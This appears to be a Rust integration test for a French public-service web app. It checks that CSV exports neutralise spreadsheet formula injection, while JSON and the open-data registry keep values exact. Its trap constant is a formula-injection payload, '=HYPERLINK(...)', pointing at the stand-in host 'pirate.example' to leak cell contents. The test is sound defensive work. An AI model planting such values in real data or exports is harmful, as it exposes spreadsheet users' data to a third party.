//! Injection de formules dans les CSV ouverts dans un tableur (constat 4 de l'issue 13), sur
//! SQLite et PostgreSQL : un nom `=HYPERLINK(…)` sort neutralisé (apostrophe en tête) dans
//! l'export de la file d'instruction, les données des signataires de la charte et l'export des
//! indicateurs d'un territoire ; il sort exact dans les données ouvertes du registre (schéma
//! publié) et dans le JSON des signataires.

use axum::http::StatusCode;
use chrono::{Duration, Utc};
use reperes_domain::comptes::RoleCompte;
use reperes_domain::{Dossier, Modification, Role};
use reperes_store::test_support::{
    catalogue_du_depot, collectivite_et_demarche, deposer_et_prendre_en_charge, labelliser,
    pour_deposer,
};
use reperes_store::{deux_bases, Acteur, Store};

use crate::commun;
use commun::{app, compte, get_anonyme, titulaire, Client, MDP};

/// Le nom piégé : ouvert tel quel dans un tableur, c'est un lien cliquable vers un tiers.
const PIEGE: &str = "=HYPERLINK(\"https://pirate.example/?v=\"&A1;\"Voir\")";

/// Les cellules d'un CSV (en-tête compris).
fn cellules(octets: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(octets)
        .records()
        .map(|l| l.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// La colonne `nom` des lignes d'un CSV.
fn colonne(octets: &[u8], nom: &str) -> Vec<String> {
    let c = cellules(octets);
    let i = c[0]
        .iter()
        .position(|x| x == nom)
        .unwrap_or_else(|| panic!("colonne {nom} absente : {:?}", c[0]));
    c[1..].iter().map(|l| l[i].clone()).collect()
}

fn neutralise() -> String {
    format!("'{PIEGE}")
}

/// Une commune nommée [`PIEGE`], signataire de la charte, dont les actions prévues commencent
/// aussi par une formule.
async fn signataire_piege(store: &Store) {
    let c = catalogue_du_depot();
    let r = c
        .referentiels
        .iter()
        .find(|r| r.id == "charte-territoire-actions")
        .unwrap();
    let dem = Acteur::new("porteur", Role::Demandeur);
    let agent = Acteur::new("agent", Role::Instructeur);
    let (o, disp) =
        collectivite_et_demarche(store, &dem, "piege", PIEGE.into(), "16000", "Angoulême").await;
    let d = Dossier::nouveau("dos-piege".into(), r, &o, &disp, 1).unwrap();
    store.creer_dossier(&dem, &d).await.unwrap();
    let mut mods: Vec<Modification> = r
        .criteres
        .iter()
        .map(|cr| Modification::Reponse {
            critere: cr.id.clone(),
            texte: format!(
                "@SOMME(1;2) actions prévues pour « {} » : calendrier.",
                cr.libelle
            ),
            liens: vec![],
            niveau_auto: Some(1),
        })
        .collect();
    mods.extend(pour_deposer(r));
    for m in &mods {
        store.modifier(&c, &d.id, &dem, m).await.unwrap();
    }
    let signe_le = Utc::now() - Duration::days(3);
    deposer_et_prendre_en_charge(
        store,
        &c,
        &d.id,
        &dem,
        &agent,
        signe_le - Duration::days(20),
    )
    .await;
    let criteres: Vec<&str> = r.criteres.iter().map(|cr| cr.id.as_str()).collect();
    labelliser(
        store,
        &c,
        &d.id,
        &agent,
        &criteres,
        "Contresignée.",
        signe_le,
    )
    .await;
}

deux_bases!(
    formules_neutralisees_dans_les_exports_exactes_en_donnees_ouvertes,
    |store: Store| async move {
        // Un dispositif labellisé nommé comme une formule.
        titulaire(&store, "1", PIEGE, "numerique", "80000", "labellise").await;
        signataire_piege(&store).await;
        compte(&store, "agent@anct.example", RoleCompte::Instructeur).await;
        let app = app(&store);
        let mut agent = Client::new(&app);
        agent.connecter("agent@anct.example", MDP).await;

        // Export de la file d'instruction : neutralisé.
        let r = agent.get("/instruction/export.csv?etat=labellise").await;
        assert_eq!(r.code, StatusCode::OK);
        let noms = colonne(r.corps.as_bytes(), "dispositif");
        assert!(noms.contains(&neutralise()), "{noms:?}");
        assert!(!noms.iter().any(|n| n.starts_with('=')), "{noms:?}");
        let orgs = colonne(r.corps.as_bytes(), "organisation");
        assert!(orgs.contains(&neutralise()), "{orgs:?}");

        // Signataires de la charte (CSV) : neutralisé ; JSON : exact.
        let r = get_anonyme(&app, "/donnees/chartes.csv").await;
        assert_eq!(r.code, StatusCode::OK);
        let noms = colonne(&r.octets, "territoire_nom");
        assert!(!noms.is_empty());
        assert!(noms.iter().all(|n| *n == neutralise()), "{noms:?}");
        let actions = colonne(&r.octets, "actions_prevues");
        assert!(
            actions.iter().all(|a| a.starts_with("'@SOMME(1;2)")),
            "{actions:?}"
        );
        let r = get_anonyme(&app, "/donnees/chartes.json").await;
        let j: serde_json::Value = serde_json::from_slice(&r.octets).unwrap();
        assert_eq!(j[0]["territoire_nom"], PIEGE);

        // Données ouvertes du registre (schéma publié) : valeur exacte.
        let r = get_anonyme(&app, "/donnees/registre.csv").await;
        assert_eq!(r.code, StatusCode::OK);
        assert_eq!(
            colonne(&r.octets, "dispositif_nom"),
            vec![PIEGE.to_string()]
        );

        // Indicateurs d'un territoire : la source saisie par un agent est neutralisée, la
        // valeur numérique reste un nombre.
        agent.get("/territoires/departement/16/saisie").await;
        let r = agent
            .post(
                "/territoires/departement/16/saisie",
                &[
                    ("indicateur", "aides-financieres-formation"),
                    ("annee", "2022"),
                    ("valeur", "12 500,50"),
                    ("source", PIEGE),
                    ("date_source", "2023-02-15"),
                ],
                None,
            )
            .await;
        assert_eq!(r.code, StatusCode::SEE_OTHER, "{}", r.corps);
        let r = get_anonyme(&app, "/territoires/departement/16/indicateurs.csv").await;
        assert_eq!(r.code, StatusCode::OK);
        let c = cellules(&r.octets);
        let saisie: Vec<&Vec<String>> = c.iter().filter(|l| l[5] == "saisi").collect();
        assert_eq!(saisie.len(), 1, "{c:?}");
        assert_eq!(saisie[0][4], "12500.5");
        assert_eq!(saisie[0][6], neutralise());
    }
);
